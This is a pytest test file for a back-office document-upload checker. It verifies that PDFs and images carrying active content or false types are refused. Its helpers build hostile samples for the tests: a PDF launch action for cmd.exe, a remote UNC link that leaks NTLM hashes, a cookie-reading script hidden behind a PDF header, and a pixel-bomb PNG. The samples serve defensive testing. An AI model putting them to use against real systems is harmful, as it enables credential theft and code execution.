"""An upload is what it claims to be and carries no active content: a PDF is parsed and
refused with JavaScript, actions that run by themselves, launch actions, embedded files or
encryption; an image is decoded in full within the pixel limit, as the type its bytes say;
a case holds a bounded number of bytes and files; a description reaches the append-only
history only as one line of at most 300 characters. A refusal says why and stores nothing.
Every upload goes through the case page's form as served, or through online filing."""

from __future__ import annotations

import io
import struct
import zlib

import pytest
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
from sqlalchemy import func, select

from backoffice.cases.file_checks import ContentLimits, UploadRefused, check_pdf
from backoffice.extensions import db
from backoffice.models import Attachment, CaseEvent
from backoffice.models.staged_filing import StagedFile
from tests.factories import PASSWORD, jpeg_image, pdf_document, png_image
from tests.form_crawler import Page, send, visit
from workflows.roles import Role

# --- the files, built here as a scanner, a phone or an attacker would -------------------


def _written(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _one_page() -> PdfWriter:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    return writer


def _action(kind: str, **entries) -> DictionaryObject:
    return DictionaryObject({NameObject("/S"): NameObject(kind), **{
        NameObject(f"/{key}"): TextStringObject(value) for key, value in entries.items()}})


def pdf_running_javascript_when_opened() -> bytes:
    writer = _one_page()
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(
        _action("/JavaScript", JS="app.alert('opened')"))
    return _written(writer)


def pdf_with_document_javascript() -> bytes:
    writer = _one_page()
    writer.add_open_action(JavaScript("this.print({bUI: false});"))
    return _written(writer)


def pdf_launching_a_program() -> bytes:
    writer = _one_page()
    writer._root_object[NameObject("/OpenAction")] = _action("/Launch", F="cmd.exe")
    return _written(writer)


def pdf_with_page_open_action() -> bytes:
    writer = _one_page()
    writer.pages[0][NameObject("/AA")] = DictionaryObject(
        {NameObject("/O"): _action("/URI", URI="https://example.invalid/")})
    return _written(writer)


def pdf_with_embedded_file() -> bytes:
    writer = _one_page()
    writer.add_attachment("invoice.exe", b"MZ\x90\x00 a program")
    return _written(writer)


def encrypted_pdf() -> bytes:
    writer = _one_page()
    writer.encrypt(user_password="", owner_password="owner", algorithm="RC4-128")
    return _written(writer)


def pdf_opening_on_its_first_page() -> bytes:
    """An ordinary "go to page 1, fit" open action: not active content."""
    writer = _one_page()
    writer._root_object[NameObject("/OpenAction")] = ArrayObject(
        [writer.pages[0].indirect_reference, NameObject("/Fit")])
    return _written(writer)


HTML_BEHIND_PDF = b"%PDF-1.4\n<html><body><script>alert(document.cookie)</script></body></html>"


def png_claiming(width: int, height: int) -> bytes:
    """A PNG whose header claims ``width`` x ``height`` pixels (its data is one row)."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header)
            + chunk(b"IDAT", zlib.compress(b"\x00" * 4)) + chunk(b"IEND", b""))


# --- the setting ------------------------------------------------------------------------


@pytest.fixture
def case_ref(make):
    office = make.office("SEOUL")
    make.user("seoul.officer", Role.OFFICER, office=office)
    john = make.party("JOHN SMITH")
    make.user("john", Role.DUTY_PAYER, party=john)
    return make.case(party=john, office=office).reference


@pytest.fixture
def john(client, auth, case_ref):
    auth.login("john", PASSWORD)
    return client


def upload(client, reference: str, content: bytes, name: str,
           description: str = "receipts") -> Page:
    """Choose the file on the case page's upload form as served and press Upload."""
    page = visit(client, f"/cases/{reference}")
    form = page.form(action=f"/cases/{reference}/attachments")
    return send(client, form, files={"file": [(content, name)]}, description=description)


def stored(app) -> tuple[list[str], int]:
    """The files stored on any case, and the number of upload events in the histories."""
    with app.app_context():
        names = db.session.scalars(select(Attachment.filename).order_by(Attachment.id)).all()
        events = db.session.scalar(select(func.count()).select_from(CaseEvent).where(
            CaseEvent.trigger == "attach_document"))
        return list(names), events


# --- what is accepted -------------------------------------------------------------------


@pytest.mark.parametrize(("content", "name"), [
    (pdf_document(pages=3), "scan.pdf"),
    (pdf_opening_on_its_first_page(), "opens-on-page-one.pdf"),
    (png_image(), "photo.png"),
    (jpeg_image(), "photo.jpg"),
    (jpeg_image(), "receipt"),  # no extension: nothing to contradict
])
def test_real_documents_and_images_are_accepted_and_listed(app, john, case_ref, content, name):
    page = upload(john, case_ref, content, name)
    assert f"{name} added to {case_ref}" in page.text
    assert "Not uploaded" not in page.text
    assert stored(app) == ([name], 1)


# --- what is refused, and nothing of it is kept -----------------------------------------


@pytest.mark.parametrize(("content", "name", "why"), [
    (pdf_running_javascript_when_opened(), "notice.pdf", "the PDF contains JavaScript"),
    (pdf_with_document_javascript(), "notice.pdf", "the PDF contains JavaScript"),
    (pdf_launching_a_program(), "notice.pdf", "the PDF contains a launch action"),
    (pdf_with_page_open_action(), "notice.pdf", "the PDF contains actions that run by"),
    (pdf_with_embedded_file(), "notice.pdf", "the PDF contains embedded files"),
    (encrypted_pdf(), "notice.pdf", "the PDF is encrypted or protected by a password"),
    (HTML_BEHIND_PDF, "notice.pdf", "the file is not a readable PDF"),
    (pdf_document()[:300], "cut-short.pdf", "the file is not a readable PDF"),
    (png_claiming(100_000, 100_000), "huge.png", "a PNG image of more than 50,000,000"),
    (png_image(200, 200)[:120], "cut-short.png", "the file is not a readable PNG image"),
    (jpeg_image(), "photo.png", "the file is named .png but it is a JPEG image"),
    (pdf_document(), "scan.jpg", "the file is named .jpg but it is a PDF"),
])
def test_a_file_that_is_not_what_it_claims_or_carries_active_content_is_refused(
    app, john, case_ref, content, name, why
):
    page = upload(john, case_ref, content, name)
    assert f"Not uploaded: {why}" in page.text
    assert 'class="flash flash-error"' in page.html
    assert f"{name} added" not in page.text
    assert stored(app) == ([], 0)


def test_a_pdf_with_more_pages_than_allowed_is_refused(app, john, case_ref):
    app.config["ATTACHMENT_PDF_MAX_PAGES"] = 2
    page = upload(john, case_ref, pdf_document(pages=3), "long.pdf")
    assert "Not uploaded: the PDF has more than 2 pages: split it" in page.text
    assert stored(app) == ([], 0)


def test_a_pdf_with_more_objects_than_may_be_walked_is_refused(app, john, case_ref):
    app.config["ATTACHMENT_PDF_MAX_OBJECTS"] = 3
    page = upload(john, case_ref, pdf_document(pages=3), "complex.pdf")
    assert "Not uploaded: the PDF is too complex to check" in page.text
    assert stored(app) == ([], 0)


def handmade_pdf(catalog_extra: bytes) -> bytes:
    """A one-page PDF written by hand, with a correct xref, its catalog holding ``extra``."""
    objects = [b"<</Type/Catalog/Pages 2 0 R" + catalog_extra + b">>",
               b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
               b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>"]
    out, offsets = bytearray(b"%PDF-1.4\n"), []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj" % number + body + b"endobj\n"
    xref = len(out)
    out += b"xref\n0 4\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % o
                                                        for o in offsets)
    out += b"trailer<</Root 1 0 R/Size 4>>\nstartxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def test_a_deeply_nested_pdf_is_refused_at_once_and_a_shallow_one_accepted():
    check_pdf(handmade_pdf(b"/Deep " + b"<</A " * 20 + b"1" + b">>" * 20), ContentLimits())
    deep = handmade_pdf(b"/Deep " + b"<</A " * 200_000 + b"1" + b">>" * 200_000)
    with pytest.raises(UploadRefused, match="not a readable PDF"):
        check_pdf(deep, ContentLimits())


def pdf_opening_with(action: DictionaryObject) -> bytes:
    writer = _one_page()
    writer._root_object[NameObject("/OpenAction")] = action
    return _written(writer)


@pytest.mark.parametrize(("action", "why"), [
    # Opening fetches \\host\share: Windows sends the officer's NTLM hash to that host.
    (_action("/GoToR", F="\\\\203.0.113.9\\share\\x.pdf"), "a link that opens another file"),
    (_action("/URI", URI="https://example.invalid/track"), "an action that runs when it is"),
    (DictionaryObject({NameObject("/S"): NameObject("/Named"),
                       NameObject("/N"): NameObject("/Print")}), "a named action"),
])
def test_a_pdf_that_does_anything_but_show_a_page_when_opened_is_refused(action, why):
    with pytest.raises(UploadRefused, match=why):
        check_pdf(pdf_opening_with(action), ContentLimits())


def test_a_3d_annotation_carrying_javascript_is_refused():
    annotation = handmade_pdf(b"/X<</Subtype/3D/3DD<</OnInstantiate(app.alert(1))>>>>")
    with pytest.raises(UploadRefused, match=r"JavaScript|3D"):
        check_pdf(annotation, ContentLimits())


def test_the_time_limit_is_read_at_every_object_not_every_few_hundred():
    # Three pages are five objects: with no time at all to spend, the first object already
    # runs out of it (a check every 256th object would never look at the clock here).
    with pytest.raises(UploadRefused, match="too complex to check"):
        check_pdf(pdf_document(pages=3), ContentLimits(max_seconds=0.0))


# --- the description and the name -------------------------------------------------------


@pytest.mark.parametrize(("description", "why"), [
    ("x" * 301, "the description has 301 characters; at most 300 are kept"),
    ("first line\nsecond line", "the description must be one line of text"),
    ("receipts\u2028for the parcel", "the description must be one line of text"),
])
def test_a_description_is_refused_not_cut_before_it_reaches_the_history(
    app, john, case_ref, description, why
):
    page = upload(john, case_ref, pdf_document(), "scan.pdf", description=description)
    assert f"Not uploaded: {why}" in page.text
    assert stored(app) == ([], 0)


@pytest.mark.parametrize("control", ["\x00", "\x07"])
def test_a_description_with_a_control_character_is_refused_and_nothing_is_stored(
    app, john, case_ref, control
):
    page = upload(john, case_ref, pdf_document(), "scan.pdf", description=f"receipts{control}")
    # refused here, or before the view by the request guard against control characters
    assert page.status == 400 or "Not uploaded: the description must be one line" in page.text
    assert stored(app) == ([], 0)


def test_a_description_of_300_characters_is_kept_whole_in_the_history(app, john, case_ref):
    description = "영수증 " * 75  # 300 characters, the last a space that is trimmed
    upload(john, case_ref, pdf_document(), "scan.pdf", description=description)
    with app.app_context():
        attachment = db.session.scalars(select(Attachment)).one()
        event = db.session.scalars(select(CaseEvent).where(
            CaseEvent.trigger == "attach_document")).one()
        assert attachment.description == event.reason == description.strip()


def test_control_characters_are_taken_out_of_the_file_name(app, john, case_ref):
    page = upload(john, case_ref, pdf_document(), "in\x00voice\u202e.pdf")
    assert "invoice.pdf added" in page.text
    assert stored(app) == (["invoice.pdf"], 1)


# --- the quota of a case ----------------------------------------------------------------


def test_a_case_that_is_full_refuses_the_next_document_and_keeps_those_it_has(
    app, john, case_ref
):
    first, second, third = pdf_document(note="first"), pdf_document(note="second"), png_image()
    app.config["ATTACHMENT_CASE_QUOTA_BYTES"] = len(first) + len(second) + len(third) - 1
    upload(john, case_ref, first, "first.pdf")
    upload(john, case_ref, second, "second.pdf")
    page = upload(john, case_ref, third, "third.png")
    assert "Not uploaded: the documents of one case may not exceed" in page.text
    assert "first.pdf" in page.text and "second.pdf" in page.text
    assert stored(app) == (["first.pdf", "second.pdf"], 2)


def test_a_case_holds_at_most_the_configured_number_of_documents(app, john, case_ref):
    app.config["ATTACHMENT_CASE_MAX_FILES"] = 1
    upload(john, case_ref, png_image(), "one.png")
    page = upload(john, case_ref, jpeg_image(), "two.jpg")
    assert "Not uploaded: the case already holds the most documents one case may hold (1)" \
        in page.text
    assert stored(app) == (["one.png"], 1)


def test_the_upload_form_says_what_is_accepted_and_how_much_the_case_holds(john, case_ref):
    page = visit(john, f"/cases/{case_ref}")
    assert "A PDF with scripts, embedded files or a password is not accepted" in page.text
    assert "at most 200 documents, 100 MB in all (0.0 MB used)" in page.text


# --- online filing: the same checks before a file is kept -------------------------------


ANSWERS = {"file-disposition": "Payment notice on a parcel (KRW 184,000)",
           "file-disposition_ref": "SEL-2026-104411", "file-disposition_kind": "assessment",
           "file-notice_received_on": "2026-11-20", "file-reasons": "A gift for personal use."}


def test_online_filing_refuses_active_content_and_keeps_only_the_clean_file(
    app, john, case_ref
):
    form = visit(john, "/cases/new/objection").form("filing-form")
    office_id = form.control("office_id").options[-1].value
    refused = send(john, form, files={"evidence": [
        (pdf_running_javascript_when_opened(), "notice.pdf"),
        (png_claiming(100_000, 100_000), "huge.png"),
        (pdf_document(), "gift-card.pdf")]}, office_id=office_id, **ANSWERS)
    assert refused.status == 422
    assert "notice.pdf: the PDF contains JavaScript" in refused.text
    assert "huge.png: a PNG image of more than 50,000,000 pixels" in refused.text
    assert "kept: gift-card.pdf" in refused.text
    assert "kept: notice.pdf" not in refused.text and "kept: huge.png" not in refused.text
    with app.app_context():
        assert db.session.scalars(select(StagedFile.filename)).all() == ["gift-card.pdf"]


def test_online_filing_keeps_no_more_than_the_new_case_may_hold(app, john, case_ref):
    app.config["ATTACHMENT_CASE_MAX_FILES"] = 1
    form = visit(john, "/cases/new/objection").form("filing-form")
    refused = send(john, form, files={"evidence": [(pdf_document(), "gift-card.pdf"),
                                                   (png_image(), "photo.png")]},
                   office_id=form.control("office_id").options[-1].value, **ANSWERS)
    assert "photo.png: the case already holds the most documents one case may hold (1)" \
        in refused.text
    assert "kept: gift-card.pdf" in refused.text and "kept: photo.png" not in refused.text
